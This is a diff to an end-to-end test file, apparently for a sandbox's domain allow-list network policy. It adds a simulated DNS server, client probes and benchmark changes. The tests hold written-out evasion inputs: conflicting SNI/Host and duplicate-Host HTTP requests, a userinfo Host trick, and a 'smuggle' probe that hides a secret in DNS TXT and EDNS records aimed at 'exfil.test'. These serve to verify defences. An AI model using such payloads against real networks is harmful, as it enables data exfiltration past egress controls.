@@ -7,8 +7,18 @@
 // names to that DNS server (MOAT_DNS_UPSTREAM). Addresses and names
 // (mtdn-*) are this file's own. Nothing leaves the namespaces it makes.
 //
+// It proves that an allow list of names lets exactly those names through
+// (HTTPS by SNI, HTTP by Host, each only to addresses the name resolved to
+// through Moat's resolver); that SNI and Host cannot be played against each
+// other; that *. matches subdomains only and updateNetwork swaps lists
+// live; and that DNS carries no data out: names off the list are answered
+// NXDOMAIN by Moat whichever server is asked, and a query for an allowed
+// name reaches the upstream as the bare question (its raw bytes are logged
+// by the simulated DNS server and searched for the secret).
+//
 // MOAT_E2E_BENCH=1 also measures HTTPS latency and a 100 MiB download with
-// no policy vs a domain allow list.
+// no policy vs a domain allow list (scripts/test.sh sets it for the
+// container runtime).
 import { test, before, after } from 'node:test'
 import assert from 'node:assert/strict'
 import { execFileSync } from 'node:child_process'
@@ -53,6 +63,7 @@ import socket, ssl, threading, sys, struct, json, os
 d = sys.argv[1]
 zone = json.loads(sys.argv[2])
 qlog = open(os.path.join(d, 'dns.log'), 'a', buffering=1)
+rawlog = open(os.path.join(d, 'dnsraw.log'), 'a', buffering=1)
 BIG = 100 << 20
 def serve(conn, tls):
     try:
@@ -107,28 +118,39 @@ def plain():
     s = listen(${PLAIN_PORT})
     while True:
         c, _ = s.accept(); c.sendall(b'hello'); c.close()
+def answer(q):
+    i, labels = 12, []
+    while q[i]:
+        labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
+    qtype = struct.unpack('!H', q[i+1:i+3])[0]
+    name = '.'.join(labels).lower()
+    qlog.write(name + '\\n')
+    rawlog.write(q.hex() + '\\n')
+    question = q[12:i+5]
+    addr = zone.get(name)
+    if addr is None:
+        return q[:2] + b'\\x81\\x83' + b'\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + question
+    ans = b''
+    if qtype == 1:
+        ans = b'\\xc0\\x0c\\x00\\x01\\x00\\x01' + struct.pack('!IH', 300, 4) + socket.inet_aton(addr)
+    return q[:2] + b'\\x81\\x80' + struct.pack('!HHHH', 1, 1 if ans else 0, 0, 0) + question + ans
 def dns():
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('${DNS}', 53))
     while True:
-        q, a = s.recvfrom(2048)
+        q, a = s.recvfrom(4096)
+        try: s.sendto(answer(q), a)
+        except Exception: pass
+def dns_tcp():
+    s = listen(53)
+    while True:
+        c, _ = s.accept(); c.settimeout(5)
         try:
-            i, labels = 12, []
-            while q[i]:
-                labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
-            qtype = struct.unpack('!H', q[i+1:i+3])[0]
-            name = '.'.join(labels).lower()
-            qlog.write(name + '\\n')
-            question = q[12:i+5]
-            addr = zone.get(name)
-            if addr is None:
-                s.sendto(q[:2] + b'\\x81\\x83' + b'\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + question, a); continue
-            ans = b''
-            if qtype == 1:
-                ans = b'\\xc0\\x0c\\x00\\x01\\x00\\x01' + struct.pack('!IH', 300, 4) + socket.inet_aton(addr)
-            s.sendto(q[:2] + b'\\x81\\x80' + struct.pack('!HHHH', 1, 1 if ans else 0, 0, 0) + question + ans, a)
-        except Exception:
-            pass
-for fn in (http, https, plain, dns):
+            n = struct.unpack('!H', c.recv(2))[0]; q = b''
+            while len(q) < n: q += c.recv(n - len(q))
+            r = answer(q); c.sendall(struct.pack('!H', len(r)) + r)
+        except Exception: pass
+        c.close()
+for fn in (http, https, plain, dns, dns_tcp):
     threading.Thread(target=fn, daemon=True).start()
 print('ready', flush=True)
 threading.Event().wait()
@@ -156,6 +178,13 @@ after(() => {
 //   https IP SNI [PATH]    GET over TLS to IP with SNI (certificate not checked)
 //   http IP HOST           GET over HTTP to IP with Host
 //   tcp IP PORT            the first bytes of a plain TCP connection
+//   https2 IP SNI HOST     GET over TLS with SNI and a Host header of its own
+//   raw IP PORT HEX [SNI]  send the bytes HEX (over TLS with SNI when given),
+//                          print the response body
+//   smuggle SERVER NAME SECRET udp|tcp
+//                          an A query for NAME carrying SECRET in two extra
+//                          records (a TXT record named SECRET.exfil.test and
+//                          an EDNS option); prints rcode and answer count
 const clientPy = `
 import socket, ssl, sys, struct, time
 def get(sock, host, path='/'):
@@ -187,14 +216,42 @@ try:
     elif op == 'tcp':
         s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=3)
         print(s.recv(5).decode() or 'fail')
+    elif op == 'https2':
+        n, body = get(tls(sys.argv[2], sys.argv[3]), sys.argv[4])
+        print(body.split(b'\\r\\n\\r\\n', 1)[1].decode())
+    elif op == 'raw':
+        ip, port, data = sys.argv[2], int(sys.argv[3]), bytes.fromhex(sys.argv[4])
+        s = socket.create_connection((ip, port), timeout=5)
+        if len(sys.argv) > 5:
+            ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+            s = ctx.wrap_socket(s, server_hostname=sys.argv[5])
+        s.sendall(data); out = b''
+        while True:
+            b = s.recv(4096)
+            if not b: break
+            out += b
+        print(out.split(b'\\r\\n\\r\\n', 1)[1].decode() if b'\\r\\n\\r\\n' in out else 'fail')
+    elif op == 'smuggle':
+        server, name, secret, proto = sys.argv[2:6]
+        enc = lambda n: b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\\x00'
+        txt = enc(secret + '.exfil.test') + struct.pack('!HHIH', 16, 1, 0, len(secret) + 1) + bytes([len(secret)]) + secret.encode()
+        opt = b'\\x00' + struct.pack('!HHIH', 41, 1232, 0, 4 + len(secret)) + struct.pack('!HH', 65001, len(secret)) + secret.encode()
+        q = b'\\x43\\x21\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x02' + enc(name) + b'\\x00\\x01\\x00\\x01' + txt + opt
+        if proto == 'tcp':
+            s = socket.create_connection((server, 53), timeout=5); s.sendall(struct.pack('!H', len(q)) + q)
+            n = struct.unpack('!H', s.recv(2))[0]; r = b''
+            while len(r) < n: r += s.recv(n - len(r))
+        else:
+            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.sendto(q, (server, 53)); r = u.recv(4096)
+        print('rcode=%d answers=%d' % (r[3] & 15, struct.unpack('!H', r[6:8])[0]))
     elif op == 'bench':
-        # bench IP SNI N: N sequential HTTPS requests (connect + handshake +
-        # GET), then 3 downloads of /big; prints the times in ms.
-        ip, sni, n = sys.argv[2], sys.argv[3], int(sys.argv[4])
+        # bench IP SNI N D: N sequential HTTPS requests (connect + handshake +
+        # GET), then D downloads of /big; prints the times in ms.
+        ip, sni, n, d = sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
         lat, dl = [], []
         for _ in range(n):
             t = time.perf_counter(); get(tls(ip, sni), sni); lat.append((time.perf_counter() - t) * 1000)
-        for _ in range(3):
+        for _ in range(d):
             t = time.perf_counter(); got, _ = get(tls(ip, sni), sni, '/big'); dl.append((time.perf_counter() - t) * 1000)
             assert got > 100 << 20, got
         print(' '.join('%.2f' % x for x in lat) + ' | ' + ' '.join('%.1f' % x for x in dl))
@@ -245,6 +302,66 @@ test('allowOut one name with deny-all: its HTTPS and HTTP pass, nothing else doe
   assert.ok(dnsLog().includes('api.allowed.test'))
 })
 
+const hexOf = (s) => Buffer.from(s).toString('hex')
+const http1 = (...lines) => hexOf([...lines, 'Connection: close', '', ''].join('\r\n'))
+
+test('SNI and Host cannot disagree their way past the list', { timeout: 300_000 }, async (t) => {
+  const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
+  assert.equal(await probe(sbx, 'dns', 'api.allowed.test'), WEB)
+  // Allowed SNI, other Host inside TLS: the proxy cannot read the Host, so
+  // it passes, but only to an address the allowed name resolved to (here
+  // WEB, which serves other.allowed.test too: same-address fronting is the
+  // documented limit). At another address it is refused.
+  assert.equal(await probe(sbx, 'https2', WEB, 'api.allowed.test', 'other.allowed.test'),
+    'sni=api.allowed.test host=other.allowed.test')
+  assert.ok(failed(await probe(sbx, 'https2', WEB2, 'api.allowed.test', 'evil.test')))
+  // The reverse: a name off the list in the SNI, the allowed one as Host.
+  assert.ok(failed(await probe(sbx, 'https2', WEB, 'other.allowed.test', 'api.allowed.test')))
+  assert.ok(failed(await probe(sbx, 'https2', WEB2, 'evil.test', 'api.allowed.test')))
+  // Plain HTTP: the target's authority and the Host must agree, one Host only.
+  const refused = {
+    'absolute target off the list': http1('GET http://other.allowed.test/ HTTP/1.1', 'Host: api.allowed.test'),
+    'allowed target, other Host': http1('GET http://api.allowed.test/ HTTP/1.1', 'Host: other.allowed.test'),
+    'two Host headers': http1('GET / HTTP/1.1', 'Host: api.allowed.test', 'Host: other.allowed.test'),
+    'two Host headers, reversed': http1('GET / HTTP/1.1', 'Host: other.allowed.test', 'Host: api.allowed.test'),
+    'Host with a port and userinfo': http1('GET / HTTP/1.1', 'Host: api.allowed.test@other.allowed.test:80'),
+  }
+  for (const [what, head] of Object.entries(refused)) {
+    assert.ok(failed(await probe(sbx, 'raw', WEB, 80, head)), what)
+  }
+  assert.equal(await probe(sbx, 'raw', WEB, 80, http1('GET / HTTP/1.1', 'Host: api.allowed.test')), 'sni= host=api.allowed.test')
+  // Protocols swapped: TLS to port 80, plain HTTP to port 443.
+  assert.ok(failed(await probe(sbx, 'raw', WEB, 80, http1('GET / HTTP/1.1', 'Host: api.allowed.test'), 'api.allowed.test')))
+  assert.ok(failed(await probe(sbx, 'raw', WEB, 443, http1('GET / HTTP/1.1', 'Host: api.allowed.test'))))
+})
+
+test('DNS under a domain allow list: no random label reaches the upstream, however it is asked', { timeout: 300_000 }, async (t) => {
+  const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
+  const secret = `smug${Date.now()}x${Math.random().toString(36).slice(2, 8)}`
+  const resolvConf = (await run(sbx, 'cat /etc/resolv.conf')).stdout
+  const configured = [...resolvConf.matchAll(/^nameserver\s+(\S+)/gm)].map((m) => m[1])
+  const servers = [...new Set([...configured, DNS, '198.19.91.99', '1.1.1.1'])]
+  for (const server of servers) {
+    // A name off the list: Moat answers NXDOMAIN itself, over UDP and TCP.
+    assert.equal(await probe(sbx, 'dnsat', server, `${secret}.exfil.test`), 'rcode=3 answers=0', server)
+    assert.equal(await probe(sbx, 'smuggle', server, `${secret}.exfil.test`, secret, 'tcp'), 'rcode=3 answers=0', `${server} tcp`)
+    // An allowed name carrying the secret in extra records: answered, but
+    // only the question may travel on.
+    for (const proto of ['udp', 'tcp']) {
+      assert.equal(await probe(sbx, 'smuggle', server, 'api.allowed.test', secret, proto), 'rcode=0 answers=1', `${server} ${proto}`)
+    }
+  }
+  // Root rewrites resolv.conf to the upstream itself: still Moat answers.
+  const w = await run(sbx, `echo nameserver ${DNS} > /etc/resolv.conf`, { user: 'root' })
+  assert.equal(w.exitCode, 0, w.stderr)
+  assert.ok(failed(await probe(sbx, 'dns', `${secret}.exfil.test`)))
+  await sleep(500)
+  const raw = readFileSync(path.join(dir, 'dnsraw.log'), 'utf8')
+  assert.ok(!dnsLog().some((l) => l.includes(secret)), 'a refused name reached the DNS server')
+  assert.ok(!raw.includes(hexOf(secret)), 'the secret reached the DNS server inside a forwarded query')
+  assert.ok(raw.includes(hexOf('allowed')), 'allowed queries did reach it')
+})
+
 test('*.allowed.test matches subdomains only, and updateNetwork swaps the list live', { timeout: 300_000 }, async (t) => {
   const sbx = await prepared(t, { network: { allowOut: ['*.allowed.test'], denyOut: ['0.0.0.0/0'] } })
   for (const n of ['api.allowed.test', 'other.allowed.test', 'deep.sub.allowed.test']) {
@@ -273,22 +390,31 @@ test('domains without denyOut 0.0.0.0/0 are refused with 400', { timeout: 120_00
 
 const median = (xs) => { const s = [...xs].sort((a, b) => a - b); return s[Math.floor(s.length / 2)] }
 
+// The benchmark alternates the two sandboxes round by round (which goes
+// first alternates too), so that drift on a shared host hits both alike.
+// It prints numbers only: no timed asserts.
+const ROUNDS = 5
 test('benchmark: HTTPS latency and 100 MiB download, no policy vs domain allow list',
   { timeout: 600_000, skip: !process.env.MOAT_E2E_BENCH }, async (t) => {
     const open = await prepared(t, {})
     const ruled = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
     assert.equal(await probe(ruled, 'dns', 'api.allowed.test'), WEB)
-    const res = {}
-    for (const [name, sbx] of [['no policy', open], ['domain allow list', ruled]]) {
-      const out = await run(sbx, `python3 /tmp/c.py bench ${WEB} api.allowed.test 50`, {}, 300_000)
-      assert.ok(!out.stdout.startsWith('fail'), out.stdout + out.stderr)
-      const [lat, dl] = out.stdout.trim().split(' | ').map((s) => s.split(' ').map(Number))
-      res[name] = { latencyMs: median(lat), downloadMs: median(dl) }
+    const res = { 'no policy': { lat: [], dl: [] }, 'domain allow list': { lat: [], dl: [] } }
+    const pairs = [['no policy', open], ['domain allow list', ruled]]
+    for (let r = 0; r < ROUNDS; r++) {
+      for (const [name, sbx] of r % 2 ? [...pairs].reverse() : pairs) {
+        const out = await run(sbx, `python3 /tmp/c.py bench ${WEB} api.allowed.test 10 1`, {}, 300_000)
+        assert.ok(!out.stdout.startsWith('fail'), out.stdout + out.stderr)
+        const [lat, dl] = out.stdout.trim().split(' | ').map((s) => s.split(' ').map(Number))
+        res[name].lat.push(...lat)
+        res[name].dl.push(...dl)
+      }
     }
-    const a = res['no policy']; const b = res['domain allow list']
-    console.log(`HTTPS request (connect+TLS+GET), median of 50: no policy ${a.latencyMs.toFixed(2)} ms, ` +
-      `domain list ${b.latencyMs.toFixed(2)} ms, ratio ${(b.latencyMs / a.latencyMs).toFixed(2)}`)
-    console.log(`100 MiB HTTPS download, median of 3: no policy ${a.downloadMs.toFixed(0)} ms ` +
-      `(${(100 / (a.downloadMs / 1000)).toFixed(0)} MiB/s), domain list ${b.downloadMs.toFixed(0)} ms ` +
-      `(${(100 / (b.downloadMs / 1000)).toFixed(0)} MiB/s), ratio ${(b.downloadMs / a.downloadMs).toFixed(2)}`)
+    const [a, b] = [res['no policy'], res['domain allow list']].map((x) => ({ lat: median(x.lat), dl: median(x.dl) }))
+    const mibs = (ms) => 100 / (ms / 1000)
+    console.log(`HTTPS request (connect+TLS+GET), median of ${ROUNDS * 10}: no policy ${a.lat.toFixed(2)} ms, ` +
+      `domain list ${b.lat.toFixed(2)} ms, ratio ${(b.lat / a.lat).toFixed(2)}`)
+    console.log(`100 MiB HTTPS download, median of ${ROUNDS}: no policy ${a.dl.toFixed(0)} ms ` +
+      `(${mibs(a.dl).toFixed(0)} MiB/s), domain list ${b.dl.toFixed(0)} ms (${mibs(b.dl).toFixed(0)} MiB/s), ` +
+      `throughput ratio ${(mibs(b.dl) / mibs(a.dl)).toFixed(2)} (proxy cost ${(100 * (1 - mibs(b.dl) / mibs(a.dl))).toFixed(0)} %, goal ≤ 20 %)`)
   })
